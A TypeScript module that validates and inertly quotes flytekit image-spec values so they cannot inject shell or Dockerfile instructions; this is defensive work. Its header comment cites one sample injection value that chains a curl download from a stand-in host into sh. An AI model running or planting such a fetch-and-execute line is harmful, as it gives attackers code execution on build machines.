/**
 * Validation and inert rendering of every spec value that reaches the generated Dockerfile (or the
 * `requirements_uv.txt` next to it).
 *
 * flytekit pastes spec strings into its Dockerfile template verbatim, so a value such as
 * `apt_packages: ["curl && curl evil | sh"]`, an env value with a space, or a newline anywhere
 * changes the Dockerfile's meaning. This module is the single place that decides which values are
 * acceptable and how they are written:
 *
 *  - Values with a grammar (apt/pip/conda packages, URLs, image references, env keys, paths) are
 *    checked against that grammar, so anything with shell or Dockerfile syntax is rejected with a
 *    `SpecError` naming the field (e.g. `apt_packages[1]`). The caller adds file and line.
 *  - Values that are free text by design are rendered inertly: env values as Dockerfile
 *    double-quoted words, shell arguments single-quoted, ENTRYPOINT as JSON.
 *  - `commands` are shell written by the user and stay shell, but they may not break out of their
 *    RUN instruction (see `checkCommand`).
 *
 * Every check also rejects raw newlines (commands first fold backslash-newline continuations, as
 * Docker would): a newline ends a Dockerfile instruction, so it is the one character that turns a
 * value into new instructions.
 */
import { SpecError } from '../errors';
import type { SpecView } from '../imagespec/types';

/** Longest value accepted anywhere; keeps regexes cheap and error messages readable. */
const MAX_LEN = 4096;

function fail(field: string, message: string): never {
  throw new SpecError(message, { field });
}

/** A short, unambiguous rendering of a bad value for error messages. */
export function show(value: string): string {
  const s = value.length > 80 ? value.slice(0, 77) + '...' : value;
  return JSON.stringify(s);
}

function checkLength(value: string, field: string): void {
  if (value.length > MAX_LEN) fail(field, `value is longer than ${MAX_LEN} characters`);
}

/** C0 controls and DEL; a tab is allowed only where the caller says so. */
function firstControl(value: string, allowTab: boolean): string | undefined {
  for (const ch of value) {
    const c = ch.codePointAt(0) ?? 0;
    if ((c < 0x20 && !(allowTab && c === 0x09)) || c === 0x7f) return ch;
  }
  return undefined;
}

function controlName(ch: string): string {
  if (ch === '\n') return 'a newline';
  if (ch === '\r') return 'a carriage return';
  if (ch === '\0') return 'a NUL character';
  return `the control character U+${(ch.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}`;
}

function rejectControls(value: string, field: string, what: string, allowTab = false): void {
  const ch = firstControl(value, allowTab);
  if (ch !== undefined) fail(field, `${what} must not contain ${controlName(ch)}: ${show(value)}`);
}

/**
 * A lone UTF-16 surrogate (possible in a Python str, e.g. from a YAML `"\\ud800"` escape) has no
 * UTF-8 encoding, so the Dockerfile would hold U+FFFD instead of the value.
 */
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;

function rejectLoneSurrogates(value: string, field: string, what: string): void {
  if (LONE_SURROGATE.test(value)) fail(field, `${what} must not contain a lone UTF-16 surrogate: ${show(value)}`);
}

// ---------------------------------------------------------------------------------------------
// Rendering helpers
// ---------------------------------------------------------------------------------------------

/** Characters that never need shell quoting; keeps `numpy`, `python=3.11`, URLs readable. */
const SHELL_SAFE = /^[A-Za-z0-9_@%+=:,./-]+$/;

/**
 * One POSIX shell word that the shell reads back as exactly `value`: bare when it only has safe
 * characters, otherwise single-quoted (nothing is special inside single quotes; a single quote is
 * written as `'\''`). Callers must have rejected newlines, which would still end the Dockerfile
 * instruction even inside quotes.
 */
export function shellQuote(value: string): string {
  if (value !== '' && SHELL_SAFE.test(value)) return value;
  return `'${value.replace(/'/g, `'\\''`)}'`;
}

/**
 * A Dockerfile ENV value as a double-quoted word. Docker's word lexer treats `\`, `"` and `$`
 * specially inside double quotes (only those three may be backslash-escaped), so escaping exactly
 * those makes the value literal: no `$VAR` expansion, no word splitting on spaces. A newline cannot
 * be represented at all (Docker has no escape for it and a raw one ends the instruction), so
 * `checkEnvValue` rejects it.
 */
export function dockerQuote(value: string): string {
  return `"${value.replace(/[\\"$]/g, (c) => '\\' + c)}"`;
}

/**
 * JSON with every non-ASCII character escaped, like Python's `json.dumps` (ensure_ascii). The
 * Dockerfile then stays pure ASCII, so no Unicode line separator or control character can end a
 * line, and BuildKit's JSON parser reads back exactly the same strings.
 */
export function asciiJson(value: unknown): string {
  return JSON.stringify(value).replace(/[\u007f-\uffff]/g, (c) => '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0'));
}

/** An exec-form (JSON array) instruction argument, with `", "` separators as `json.dumps` writes. */
export function jsonArray(items: readonly string[]): string {
  return '[' + items.map((i) => asciiJson(i)).join(', ') + ']';
}

// ---------------------------------------------------------------------------------------------
// apt
// ---------------------------------------------------------------------------------------------

/**
 * Debian package names (policy §5.6.1: lowercase letters, digits, `+`, `-`, `.`, starting with an
 * alphanumeric), then apt-get's optional `:arch`, then `=version` (Debian version characters,
 * including an epoch `:` and `~`) or `/release`.
 */
const APT_PACKAGE = /^[a-z0-9][a-z0-9+.-]*(?::[a-z0-9][a-z0-9-]*)?(?:=[A-Za-z0-9.+~:_-]+|\/[A-Za-z0-9.+~_-]+)?$/;

export function checkAptPackage(value: string, field: string): void {
  checkLength(value, field);
  rejectControls(value, field, 'an apt package');
  if (!APT_PACKAGE.test(value)) {
    fail(
      field,
      `not a valid apt package ${show(value)}: expected a Debian package name (lowercase letters, ` +
        `digits, '+', '-', '.') with an optional ':arch' and '=version' or '/release'`,
    );
  }
}

// ---------------------------------------------------------------------------------------------
// URLs
// ---------------------------------------------------------------------------------------------

/**
 * URL characters we accept: RFC 3986 unreserved, gen-delims and the sub-delims that have no shell
 * meaning. `$ ' ( ) ;` are legal in URLs but are shell syntax (and `;` is PEP 508's marker
 * separator); nobody needs them in an index or package URL, so they are rejected outright.
 */
const URL_CHARS = /^[A-Za-z0-9\-._~:/?#[\]@!&*+,=%]+$/;
const INDEX_URL = /^(?:https?:\/\/[^/]|file:\/\/)/;

function checkUrlChars(value: string, field: string, what: string): void {
  if (!URL_CHARS.test(value)) {
    const bad = [...value].find((c) => !URL_CHARS.test(c)) ?? '';
    fail(field, `${what} contains the character ${show(bad)}, which is not allowed: ${show(value)}`);
  }
}

/** `pip_index` and each `pip_extra_index_url`: an http(s) or file URL, nothing else. */
export function checkIndexUrl(value: string, field: string): void {
  checkLength(value, field);
  rejectControls(value, field, 'an index URL');
  if (!INDEX_URL.test(value)) {
    fail(field, `must be an http://, https:// or file:// URL: ${show(value)}`);
  }
  checkUrlChars(value, field, 'the index URL');
}

// ---------------------------------------------------------------------------------------------
// pip requirements (PEP 508)
// ---------------------------------------------------------------------------------------------

const PEP508_NAME = /^[A-Za-z0-9](?:[A-Za-z0-9._-]*[A-Za-z0-9])?/;
const VERSION_OP = /^(?:===|~=|==|!=|<=|>=|<|>)/;
const VERSION = /^[A-Za-z0-9_.*+!-]+/;
/** A direct URL: `scheme://…` or a VCS URL such as `git+https://…` or `git+ssh://…`. */
const DIRECT_URL = /^[A-Za-z][A-Za-z0-9+.-]*:\/\/\S+/;
/** Trailing per-requirement hash options, as in `pkg==1.0 --hash=sha256:…` in requirements files. */
const HASH_OPTION = /\s+--hash[=\s]\s*[A-Za-z0-9]+:[A-Fa-f0-9]+\s*$/;

/** A tiny cursor-based parser; each method consumes input or fails with a message. */
class Cursor {
  pos = 0;
  constructor(
    readonly text: string,
    readonly field: string,
  ) {}
  get rest(): string {
    return this.text.slice(this.pos);
  }
  ws(): void {
    while (this.pos < this.text.length && /[ \t]/.test(this.text[this.pos])) this.pos++;
  }
  eat(re: RegExp): string | undefined {
    const m = re.exec(this.rest);
    if (!m) return undefined;
    this.pos += m[0].length;
    return m[0];
  }
  done(): boolean {
    return this.pos >= this.text.length;
  }
  error(message: string): never {
    fail(this.field, `not a valid pip requirement ${show(this.text)}: ${message} at character ${this.pos + 1}`);
  }
}

/** PEP 508 marker: `or`/`and` of `var op var` comparisons, with parentheses. */
function parseMarker(c: Cursor): void {
  const parseVar = (): void => {
    c.ws();
    if (c.eat(/^'[^']*'/) ?? c.eat(/^"[^"]*"/) ?? c.eat(/^[A-Za-z_][A-Za-z0-9_.]*/)) return;
    c.error('expected a marker variable or a quoted string');
  };
  const parseOp = (): void => {
    c.ws();
    if (c.eat(/^(?:===|~=|==|!=|<=|>=|<|>)/) ?? c.eat(/^in\b/) ?? c.eat(/^not[ \t]+in\b/)) return;
    c.error('expected a marker operator');
  };
  const parseAtom = (): void => {
    c.ws();
    if (c.eat(/^\(/)) {
      parseOr();
      c.ws();
      if (!c.eat(/^\)/)) c.error("expected ')'");
      return;
    }
    parseVar();
    parseOp();
    parseVar();
  };
  const parseAnd = (): void => {
    parseAtom();
    for (;;) {
      c.ws();
      if (!c.eat(/^and\b/)) return;
      parseAtom();
    }
  };
  const parseOr = (): void => {
    parseAnd();
    for (;;) {
      c.ws();
      if (!c.eat(/^or\b/)) return;
      parseAnd();
    }
  };
  parseOr();
}

function parseVersionSpec(c: Cursor): void {
  const one = (): void => {
    c.ws();
    if (!c.eat(VERSION_OP)) c.error('expected a version operator (==, >=, ~=, ...)');
    c.ws();
    if (!c.eat(VERSION)) c.error('expected a version');
  };
  const list = (): void => {
    one();
    for (;;) {
      c.ws();
      if (!c.eat(/^,/)) return;
      one();
    }
  };
  c.ws();
  if (c.eat(/^\(/)) {
    list();
    c.ws();
    if (!c.eat(/^\)/)) c.error("expected ')'");
  } else {
    list();
  }
}

function parseDirectUrl(c: Cursor, what: string): void {
  const url = c.eat(DIRECT_URL);
  if (url === undefined) c.error(`expected a URL (scheme://...) ${what}`);
  checkUrlChars(url, c.field, 'the requirement URL');
}

/**
 * One `packages` entry. These go into `requirements_uv.txt` (one per line), not into the
 * Dockerfile, so the dangers are different from shell: a newline adds another requirements line
 * and a leading `-` turns the entry into a uv option (`--index-url …`, `-r /etc/…`, `-e …`). We
 * accept PEP 508 (name, extras, version specifiers, `name @ url`, markers), bare direct/VCS URLs
 * (`git+https://…#subdirectory=…`, which uv accepts and flytekit users write), trailing
 * `--hash=` options and a trailing ` # comment`; and we reject backticks, `$(`, `&&`, control
 * characters, and `;`/`|` anywhere but inside a marker.
 */
export function checkPipRequirement(value: string, field: string): void {
  checkLength(value, field);
  rejectControls(value, field, 'a pip requirement', true);
  for (const bad of ['`', '$(', '&&']) {
    if (value.includes(bad)) fail(field, `a pip requirement must not contain ${show(bad)}: ${show(value)}`);
  }
  let text = value.trim();
  if (text.startsWith('-')) {
    fail(
      field,
      `a pip requirement must not start with '-' (it would be read as a uv option; use ` + `pip_extra_args for options): ${show(value)}`,
    );
  }
  if (text === '') fail(field, 'a pip requirement must not be empty');
  // A trailing comment is harmless in a requirements file; a URL fragment has no space before '#'.
  text = text.replace(/[ \t]+#.*$/, '');
  while (HASH_OPTION.test(text)) text = text.replace(HASH_OPTION, '');

  const c = new Cursor(text, field);
  if (/^[A-Za-z][A-Za-z0-9+.-]*:\/\//.test(text)) {
    parseDirectUrl(c, '');
    // PEP 508: after a URL the marker separator must follow whitespace, or it is part of the URL.
    c.ws();
    if (c.eat(/^;/)) parseMarker(c);
  } else {
    if (!c.eat(PEP508_NAME)) c.error('expected a package name');
    c.ws();
    if (c.eat(/^\[/)) {
      c.ws();
      if (c.eat(PEP508_NAME)) {
        for (;;) {
          c.ws();
          if (!c.eat(/^,/)) break;
          c.ws();
          if (!c.eat(PEP508_NAME)) c.error('expected an extra name');
        }
      }
      c.ws();
      if (!c.eat(/^\]/)) c.error("expected ']'");
    }
    c.ws();
    if (c.eat(/^@/)) {
      c.ws();
      // The URL runs to the next blank (a ';' glued to it is part of it and rejected as a URL
      // character), so a marker here is always separated by whitespace, as PEP 508 requires.
      parseDirectUrl(c, "after '@'");
      c.ws();
      if (c.eat(/^;/)) parseMarker(c);
    } else if (!c.done() && !c.rest.startsWith(';')) {
      parseVersionSpec(c);
      c.ws();
      if (c.eat(/^;/)) parseMarker(c);
    } else if (c.eat(/^;/)) {
      parseMarker(c);
    }
  }
  c.ws();
  if (!c.done()) c.error(`unexpected ${show(c.rest.slice(0, 20))}`);
}

// ---------------------------------------------------------------------------------------------
// conda
// ---------------------------------------------------------------------------------------------

/**
 * Conda MatchSpecs are rich (`numpy>=1.2,<2`, `conda-forge::numpy=1.2=py_0`, `numpy 1.2.*`,
 * `numpy[version='>=1.2']`, `a|b`), and they are rendered shell-quoted, so the grammar is a
 * character set: spec characters only, no `$`, backtick, `;`, `&`, parentheses or controls, and a
 * name-like first character (so never an option).
 */
const CONDA_PACKAGE = /^[A-Za-z0-9_][A-Za-z0-9_.+*=<>!,:/[\]'" ~|@-]*$/;
/** A channel name (`conda-forge`, `conda-forge/label/dev`) or a channel URL. */
const CONDA_CHANNEL_NAME = /^[A-Za-z0-9_][A-Za-z0-9_.-]*(?:\/[A-Za-z0-9_.-]+)*$/;

export function checkCondaPackage(value: string, field: string): void {
  checkLength(value, field);
  rejectControls(value, field, 'a conda package');
  if (!CONDA_PACKAGE.test(value)) {
    fail(field, `not a valid conda package spec ${show(value)}`);
  }
}

export function checkCondaChannel(value: string, field: string): void {
  checkLength(value, field);
  rejectControls(value, field, 'a conda channel');
  if (CONDA_CHANNEL_NAME.test(value)) return;
  if (INDEX_URL.test(value) && URL_CHARS.test(value)) return;
  fail(field, `not a valid conda channel ${show(value)}: expected a channel name or an http(s)/file URL`);
}

// ---------------------------------------------------------------------------------------------
// pip_extra_args
// ---------------------------------------------------------------------------------------------

/**
 * Splits `pip_extra_args` into argv with POSIX-shell word rules, so that `--config-settings
 * "a=b c"` means what it means in a shell: whitespace separates words, `'…'` is literal, `"…"`
 * allows the escapes `\"`, `\\`, `\$` and `` \` ``, and a backslash outside quotes escapes the next
 * character. Anything that would make the shell do more than split words is rejected rather than
 * guessed at: `; & | < > ( )`, backticks, `$` (expansion; also inside double quotes), and `#` at
 * the start of a word (a comment would swallow the `--requirement` flag flytekit appends after the
 * extra args). Glob characters and `~` are taken literally, since every word is re-rendered
 * single-quoted by `shellQuote`.
 */
export function splitPipExtraArgs(value: string, field = 'pip_extra_args'): string[] {
  checkLength(value, field);
  rejectControls(value, field, 'pip_extra_args', true);
  const words: string[] = [];
  let word = '';
  let inWord = false;
  let i = 0;
  const bad = (what: string): never => fail(field, `${what} at character ${i + 1} is not supported in pip_extra_args: ${show(value)}`);
  while (i < value.length) {
    const ch = value[i];
    if (ch === ' ' || ch === '\t') {
      if (inWord) words.push(word);
      word = '';
      inWord = false;
      i++;
      continue;
    }
    if (ch === "'") {
      const end = value.indexOf("'", i + 1);
      if (end < 0) bad('an unterminated single quote');
      word += value.slice(i + 1, end);
      inWord = true;
      i = end + 1;
      continue;
    }
    if (ch === '"') {
      i++;
      for (;;) {
        if (i >= value.length) bad('an unterminated double quote');
        const d = value[i];
        if (d === '"') break;
        if (d === '\\' && i + 1 < value.length && '"\\$`'.includes(value[i + 1])) {
          word += value[i + 1];
          i += 2;
          continue;
        }
        if (d === '$' || d === '`') bad(`${show(d)} (shell expansion)`);
        word += d;
        i++;
      }
      inWord = true;
      i++;
      continue;
    }
    if (ch === '\\') {
      if (i + 1 >= value.length) bad('a trailing backslash');
      word += value[i + 1];
      inWord = true;
      i += 2;
      continue;
    }
    if (';&|<>()`$'.includes(ch)) bad(`the shell metacharacter ${show(ch)}`);
    if (ch === '#' && !inWord) bad("a '#' comment");
    word += ch;
    inWord = true;
    i++;
  }
  if (inWord) words.push(word);
  return words;
}

// ---------------------------------------------------------------------------------------------
// python executables, versions, image references
// ---------------------------------------------------------------------------------------------

/** `python_exec`: an interpreter path or name (`/usr/bin/python3`, `python3.11`). */
const PYTHON_EXEC = /^[A-Za-z0-9_./+@:][A-Za-z0-9_./+@:-]*$/;

export function checkPythonExec(value: string, field = 'python_exec'): void {
  checkLength(value, field);
  rejectControls(value, field, 'python_exec');
  if (!PYTHON_EXEC.test(value)) {
    fail(field, `must be an interpreter path such as /usr/bin/python3, without spaces or shell syntax: ${show(value)}`);
  }
}

/** The Python version handed to micromamba as `python=<v>` (`3.11`, `3.11.4`, `>=3.10,<3.13`). */
const PYTHON_VERSION = /^[A-Za-z0-9.*+!=<>,~_][A-Za-z0-9.*+!=<>,~_-]*$/;

export function checkPythonVersion(value: string, field = 'python_version'): void {
  checkLength(value, field);
  rejectControls(value, field, 'python_version');
  if (!PYTHON_VERSION.test(value)) fail(field, `not a valid Python version ${show(value)}`);
}

// The reference grammar of distribution/reference (what docker and BuildKit parse in FROM).
const ALNUM = '[a-z0-9]+';
const SEPARATOR = '(?:[._]|__|[-]+)';
const PATH_COMPONENT = `${ALNUM}(?:${SEPARATOR}${ALNUM})*`;
const DOMAIN_COMPONENT = '(?:[a-zA-Z0-9]|[a-zA-Z0-9][a-zA-Z0-9-]*[a-zA-Z0-9])';
const HOST = `(?:${DOMAIN_COMPONENT}(?:\\.${DOMAIN_COMPONENT})*|\\[[a-fA-F0-9:]+\\])`;
const DOMAIN = `${HOST}(?::[0-9]+)?`;
const NAME = `(?:${DOMAIN}/)?${PATH_COMPONENT}(?:/${PATH_COMPONENT})*`;
const TAG = '[\\w][\\w.-]{0,127}';
const DIGEST = '[A-Za-z][A-Za-z0-9]*(?:[-_+.][A-Za-z][A-Za-z0-9]*)*:[0-9A-Fa-f]{32,}';
const IMAGE_REFERENCE = new RegExp(`^(${NAME})(?::${TAG})?(?:@${DIGEST})?$`);
const REPOSITORY = new RegExp(`^${NAME}$`);

/** `base_image`, `builder_config.uv_image`, `builder_config.micromamba_image`. */
export function checkImageRef(value: string, field: string): void {
  if (value.length > 512) fail(field, 'an image reference is longer than 512 characters');
  rejectControls(value, field, 'an image reference');
  const m = IMAGE_REFERENCE.exec(value);
  if (!m) {
    fail(
      field,
      `not a valid image reference ${show(value)}: expected [registry/]repository[:tag][@digest] ` + `with a lowercase repository`,
    );
  }
  if (m[1].length > 255) fail(field, 'the repository name of the image reference is longer than 255 characters');
}

/** True for a repository without tag or digest (`ghcr.io/org/cache`); used for cache refs. */
export function isRepository(value: string): boolean {
  return value.length <= 255 && REPOSITORY.test(value);
}

// ---------------------------------------------------------------------------------------------
// env
// ---------------------------------------------------------------------------------------------

const ENV_KEY = /^[A-Za-z_][A-Za-z0-9_]*$/;

export function checkEnvKey(key: string, field: string): void {
  if (!ENV_KEY.test(key)) {
    fail(field, `not a valid environment variable name ${show(key)}: expected [A-Za-z_][A-Za-z0-9_]*`);
  }
}

/**
 * Env values are free text and are rendered with `dockerQuote`, which makes everything literal
 * except what a Dockerfile cannot express at all: a newline or carriage return (no escape exists
 * and a raw one ends the ENV instruction), NUL (not representable in a process environment) and
 * lone surrogates (no UTF-8 encoding).
 */
export function checkEnvValue(value: string, field: string): void {
  checkLength(value, field);
  rejectLoneSurrogates(value, field, 'an environment value');
  for (const ch of ['\n', '\r', '\0']) {
    if (value.includes(ch)) {
      fail(field, `an environment value cannot contain ${controlName(ch)} in a Dockerfile ENV instruction`);
    }
  }
}

// ---------------------------------------------------------------------------------------------
// commands
// ---------------------------------------------------------------------------------------------

/**
 * A word that BuildKit's parser takes as a heredoc opener in a RUN line (`<<EOF`, `<<-EOF`,
 * `2<<EOF`; not the here-string `<<<`). BuildKit would then read the *following Dockerfile lines*
 * as the heredoc body, swallowing our WORKDIR/USER/ENV instructions. Matching is on raw text, so a
 * quoted `'<<x'` is rejected too; that is conservative, never unsafe.
 */
const HEREDOC_WORD = /(?:^|[ \t])\d*<<(?!<)/;
/** Docker's line-continuation rule: an escape character followed only by blanks at line end. */
const CONTINUATION = /\\[ \t]*$/;

/**
 * `commands` are shell by design: the user writes them and they run as written (joined with
 * ` && `, as flytekit does). What they may not do is leave their RUN instruction. Decision: raw
 * newlines are folded only where Docker itself would fold them, i.e. a backslash-newline line
 * continuation (`apt-get install \⏎ curl`, common in YAML block scalars), with Docker's rule that
 * blank and `#` lines inside a continuation are dropped; any other newline or carriage return is
 * rejected, because in flytekit's output it would start a new Dockerfile instruction. Also
 * rejected: NUL, a trailing backslash (it would continue the RUN into the next instruction), a
 * heredoc opener (see `HEREDOC_WORD`), and a command starting with `-` or `#` (a leading `--` is
 * parsed by BuildKit as a RUN flag such as `--mount`, and a comment would swallow the commands
 * joined after it). Returns the command as a single line.
 */
export function checkCommand(value: string, field: string): string {
  checkLength(value, field);
  if (value.includes('\0')) fail(field, 'a command must not contain a NUL character');
  // Leading and trailing blank lines carry no meaning (YAML `|` block scalars end with one).
  const trimmed = value.replace(/^(?:[ \t]*\r?\n)+/, '').replace(/(?:\r?\n[ \t]*)+$/, '');
  const lines = trimmed.split('\n').map((l) => (l.endsWith('\r') ? l.slice(0, -1) : l));
  let folded = lines[0];
  for (let i = 1; i < lines.length; i++) {
    if (!CONTINUATION.test(folded)) {
      fail(
        field,
        'a command must be a single line (a newline would start a new Dockerfile instruction); ' +
          'use one list entry per command, or end the line with a backslash to continue it',
      );
    }
    const line = lines[i];
    // Docker skips blank and comment lines inside a continuation; so do we. If nothing follows,
    // the trailing backslash stays and is rejected below, as Docker would continue past it.
    if (/^[ \t]*(?:#.*)?$/.test(line)) continue;
    folded = folded.replace(CONTINUATION, '') + line;
  }
  rejectControls(folded, field, 'a command', true);
  rejectLoneSurrogates(folded, field, 'a command');
  if (CONTINUATION.test(folded)) fail(field, 'a command must not end with a backslash');
  if (HEREDOC_WORD.test(folded)) fail(field, "a command must not contain a heredoc ('<<WORD')");
  const start = folded.trimStart();
  if (start.startsWith('-')) fail(field, `a command must not start with '-': ${show(value)}`);
  if (start.startsWith('#')) fail(field, `a command must not be a '#' comment: ${show(value)}`);
  return folded;
}

// ---------------------------------------------------------------------------------------------
// copy
// ---------------------------------------------------------------------------------------------

/**
 * Normalises a `copy` entry like Python's `pathlib.PurePosixPath` (which flytekit uses both for the
 * context layout and the COPY line): repeated slashes collapse, `.` components and a trailing
 * slash disappear, and an empty path is `.`. Rejects what flytekit rejects (absolute paths, `..`
 * components, with flytekit's message) and what cannot be written safely in a COPY instruction:
 * backslashes (Windows separators or escapes), controls, `$` (COPY expands variables), glob
 * characters `* ? [` (COPY would expand them, while flytekit copies a single literal path), `<`
 * (heredoc), quotes (BuildKit runs each COPY word through its shell-word lexer, which would remove
 * them), and a leading `-` (BuildKit parses a leading `--` as a COPY flag). Blanks are allowed:
 * the COPY line then uses the JSON form.
 */
export function normalizeCopyPath(value: string, field: string): string {
  checkLength(value, field);
  rejectControls(value, field, 'a copy path');
  rejectLoneSurrogates(value, field, 'a copy path');
  if (value.startsWith('/') || value.split('/').includes('..')) {
    fail(field, "Absolute paths or paths with '..' are not allowed in COPY command.");
  }
  const bad = /[\\$*?[<'"]/.exec(value);
  if (bad) fail(field, `a copy path must not contain ${show(bad[0])}: ${show(value)}`);
  const parts = value.split('/').filter((p) => p !== '' && p !== '.');
  const norm = parts.length === 0 ? '.' : parts.join('/');
  if (norm.startsWith('-')) fail(field, `a copy path must not start with '-': ${show(value)}`);
  return norm;
}

/** The parent directory of a normalised copy path as pathlib writes it (`a` → `.`). */
export function copyParent(norm: string): string {
  const i = norm.lastIndexOf('/');
  return i < 0 ? '.' : norm.slice(0, i);
}

// ---------------------------------------------------------------------------------------------
// secrets and misc action inputs
// ---------------------------------------------------------------------------------------------

const SECRET_ID = /^[A-Za-z0-9_.-]+$/;
/** Mount targets go into a CSV-parsed `--mount=` flag: no commas, quotes, `$` or blanks. */
const MOUNT_TARGET = /^[A-Za-z0-9_./@+-]+$/;

export function checkSecretId(id: string, field = 'secret'): void {
  if (!SECRET_ID.test(id)) fail(field, `not a valid secret id ${show(id)}: expected [A-Za-z0-9_.-]+`);
}

export function checkMountTarget(target: string, field = 'secret'): void {
  if (!MOUNT_TARGET.test(target) || target.startsWith('-')) {
    fail(field, `not a valid secret mount target ${show(target)}: expected a path without blanks, commas or quotes`);
  }
}

// ---------------------------------------------------------------------------------------------
// A whole spec
// ---------------------------------------------------------------------------------------------

/**
 * Checks every SpecView field the default builder renders, in flytekit's field order, and throws
 * the first problem as a SpecError naming the field. Returns the parsed pieces that need parsing
 * (`pip_extra_args` as argv, `commands` folded to single lines, blank commands dropped).
 * `copy` is checked by the Dockerfile generator against the entries it is given.
 */
export function checkSpecView(view: SpecView): { pipExtraArgs: string[]; commands: string[] } {
  // An empty python_version is falsy in flytekit, which then uses its default; so do we.
  if (view.pythonVersion) checkPythonVersion(view.pythonVersion);
  view.env.forEach(([k, v]) => {
    checkEnvKey(k, `env.${k}`);
    checkEnvValue(v, `env.${k}`);
  });
  view.packages.forEach((p, i) => checkPipRequirement(p, `packages[${i}]`));
  view.condaPackages.forEach((p, i) => checkCondaPackage(p, `conda_packages[${i}]`));
  view.condaChannels.forEach((c, i) => checkCondaChannel(c, `conda_channels[${i}]`));
  view.aptPackages.forEach((p, i) => checkAptPackage(p, `apt_packages[${i}]`));
  if (view.baseImage !== undefined) checkImageRef(view.baseImage, 'base_image');
  if (view.pipIndex !== undefined) checkIndexUrl(view.pipIndex, 'pip_index');
  view.pipExtraIndexUrl.forEach((u, i) => checkIndexUrl(u, `pip_extra_index_url[${i}]`));
  const pipExtraArgs = view.pipExtraArgs === undefined ? [] : splitPipExtraArgs(view.pipExtraArgs);
  const commands: string[] = [];
  view.commands.forEach((c, i) => {
    const folded = checkCommand(c, `commands[${i}]`).trim();
    if (folded !== '') commands.push(folded);
  });
  if (view.pythonExec !== undefined) checkPythonExec(view.pythonExec);
  if (view.uvImage !== undefined) checkImageRef(view.uvImage, 'builder_config.uv_image');
  if (view.micromambaImage !== undefined) checkImageRef(view.micromambaImage, 'builder_config.micromamba_image');
  return { pipExtraArgs, commands };
}
